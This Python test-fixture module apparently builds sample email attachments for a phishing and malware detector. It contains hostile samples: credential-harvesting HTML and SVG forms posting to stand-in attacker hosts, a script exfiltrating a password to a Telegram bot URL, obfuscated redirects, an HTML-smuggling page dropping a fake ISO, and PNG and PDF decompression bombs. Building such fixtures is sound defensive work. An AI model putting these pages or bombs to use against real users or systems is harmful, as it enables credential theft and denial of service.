"""Attachments made by the tests themselves: QR code images, PDFs with links, forms and images,
HTML and SVG pages, and hostile files (pixel bombs, decompression bombs, truncated PDFs)."""

from __future__ import annotations

import io
import struct
import zlib

import zxingcpp
from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def qr_image(text: str, scale: int = 6) -> Image.Image:
    barcode = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    bitmap = zxingcpp.write_barcode_to_image(barcode, scale=scale)
    height, width = bitmap.shape[0], bitmap.shape[1]
    return Image.frombytes("L", (width, height), bytes(memoryview(bitmap)))


def qr_table_html(text: str, style: str = "background:#000") -> str:
    """A QR code drawn as an HTML table: one ``<td>`` per module, dark ones with ``style``."""
    barcode = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    bitmap = zxingcpp.write_barcode_to_image(barcode, scale=1, add_quiet_zones=False)
    height, width = bitmap.shape[0], bitmap.shape[1]
    pixels = bytes(memoryview(bitmap))
    rows = []
    for y in range(height):
        row = pixels[y * width : (y + 1) * width]
        colours = [style if value < 128 else "background:#fff" for value in row]
        cells = "".join(f'<td style="width:3px;height:3px;{c}"></td>' for c in colours)
        rows.append(f"<tr>{cells}</tr>")
    return f'<table cellpadding="0" cellspacing="0">{"".join(rows)}</table>'


def qr_png(text: str, scale: int = 6, canvas: tuple[int, int] | None = None) -> bytes:
    """A PNG with a QR code, optionally pasted on a larger white canvas with some text-like
    noise (what a "scan to verify" picture looks like)."""
    img = qr_image(text, scale)
    if canvas is not None:
        page = Image.new("RGB", canvas, (255, 255, 255))
        page.paste(img.convert("RGB"), (40, 60))
        img = page  # type: ignore[assignment]
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def plain_png(size: tuple[int, int] = (120, 60), colour: int = 200) -> bytes:
    buf = io.BytesIO()
    Image.new("L", size, colour).save(buf, format="PNG")
    return buf.getvalue()


def pixel_bomb_png(width: int = 20000, height: int = 20000) -> bytes:
    """A PNG whose header declares width x height pixels, with almost no data behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def _font(writer: PdfWriter) -> DictionaryObject:
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    return DictionaryObject({NameObject("/F1"): writer._add_object(font)})


def _escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(
    lines: tuple[str, ...] = (),
    link: str | None = None,
    link_rect: tuple[float, float, float, float] = (100, 400, 500, 480),
    qr: str | None = None,
    pages: int = 1,
) -> bytes:
    """A PDF with text lines on page 1, optionally a link annotation and a QR code image."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    page = writer.pages[0]
    resources = DictionaryObject({NameObject("/Font"): _font(writer)})
    ops = ["BT /F1 12 Tf 72 740 Td 14 TL"]
    for line in lines:
        ops.append(f"({_escape(line)}) Tj T*")
    ops.append("ET")
    if qr is not None:
        img = qr_image(qr, scale=4)
        image = StreamObject()
        image._data = zlib.compress(img.tobytes())
        image.update(
            {
                NameObject("/Type"): NameObject("/XObject"),
                NameObject("/Subtype"): NameObject("/Image"),
                NameObject("/Width"): NumberObject(img.width),
                NameObject("/Height"): NumberObject(img.height),
                NameObject("/ColorSpace"): NameObject("/DeviceGray"),
                NameObject("/BitsPerComponent"): NumberObject(8),
                NameObject("/Filter"): NameObject("/FlateDecode"),
            }
        )
        resources[NameObject("/XObject")] = DictionaryObject(
            {NameObject("/Im0"): writer._add_object(image)}
        )
        ops.append(f"q {img.width} 0 0 {img.height} 100 300 cm /Im0 Do Q")
    content = DecodedStreamObject()
    content.set_data("\n".join(ops).encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(content)
    page[NameObject("/Resources")] = resources
    if link is not None:
        writer.add_annotation(page_number=0, annotation=Link(rect=link_rect, url=link))
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_with_password_form(submit_to: str) -> bytes:
    """A PDF (AcroForm) with a password text field and a submit button posting to a URL."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    password = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("pw"),
            NameObject("/Ff"): NumberObject(1 << 13),
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (100, 500, 300, 520)]),
        }
    )
    submit = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/T"): TextStringObject("go"),
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (100, 450, 200, 470)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/SubmitForm"),
                    NameObject("/F"): TextStringObject(submit_to),
                }
            ),
        }
    )
    refs = [writer._add_object(password), writer._add_object(submit)]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(refs)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(refs)}
    )
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_flate_bomb(decoded_bytes: int = 300 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``decoded_bytes`` of spaces."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    body = b"".join(compressor.compress(chunk) for _ in range(decoded_bytes // len(chunk)))
    body += compressor.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return _assemble(objects)


def pdf_deeply_nested(depth: int = 50_000) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots "
        + b"[" * depth
        + b"]" * depth
        + b" >>",
    ]
    return _assemble(objects)


def _assemble(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


CREDENTIAL_PAGE = """<!DOCTYPE html><html><head><title>Sign in</title></head><body>
<img src="logo.png"><h2>Verify your mailbox</h2>
<form method="post" action="https://collect.badhost.example/post.php">
<input type="email" name="login" placeholder="Email">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form></body></html>"""

SCRIPT_CREDENTIAL_PAGE = """<html><body><div id="box">
<input id="email" type="text"><input id="pass" type="password">
<button onclick="send()">Next</button></div>
<script>function send(){var x=new XMLHttpRequest();
x.open('POST','https://api.telegram.org/botX/sendMessage');x.send(document.getElementById('pass').value);}
</script></body></html>"""

REDIRECT_PAGE = """<html><head>
<meta http-equiv="refresh" content="0; url=https://landing.badhost.example/o365/">
</head><body>Loading your document...</body></html>"""

SCRIPT_REDIRECT_PAGE = """<html><body><script>
var u = atob("aHR0cHM6Ly9sYW5kaW5nLmJhZGhvc3QuZXhhbXBsZS8=");
window.location.href = u + "#victim@example.net";
</script></body></html>"""

REDIRECT_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
<text x="10" y="40">Voice message (0:42)</text>
<script type="text/javascript"><![CDATA[
window.location.replace("https://voicemail.badhost.example/listen?u=" + "victim");
]]></script></svg>"""

FORM_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">
<foreignObject width="600" height="400"><div xmlns="http://www.w3.org/1999/xhtml">
<form action="https://collect.badhost.example/svg.php" method="post">
<input name="user"><input type="password" name="pw"></form></div></foreignObject></svg>"""

PLAIN_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">
<rect width="120" height="40" fill="#036"/><text x="10" y="25" fill="#fff">ACME</text></svg>"""

NEWSLETTER_PAGE = """<html><body><h1>Spring newsletter</h1>
<p>Our club meets on Tuesday. Read more on <a href="https://club.example.org/news">our site</a>.</p>
<form action="https://club.example.org/search"><input type="text" name="q"></form>
</body></html>"""


def smuggling_page(payload_bytes: int = 6000) -> str:
    import base64

    blob = base64.b64encode(b"MZ" + bytes(range(256)) * (payload_bytes // 256)).decode()
    return (
        "<html><body><script>var d='" + blob + "';"
        "var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))],"
        "{type:'application/octet-stream'});var a=document.createElement('a');"
        "a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script></body></html>"
    )


def zip_with(names: list[str]) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name in names:
            archive.writestr(name, b"x")
    return buf.getvalue()


def encrypted_pdf(password: str, link: str = "https://refund.bad.example/") -> bytes:
    """A PDF that opens only with ``password`` (RC4-128, which pypdf handles without a crypto
    library)."""
    from pypdf import PdfReader

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(("Your refund",), link=link))))
    writer.encrypt(user_password=password, owner_password="owner-" + password, algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()
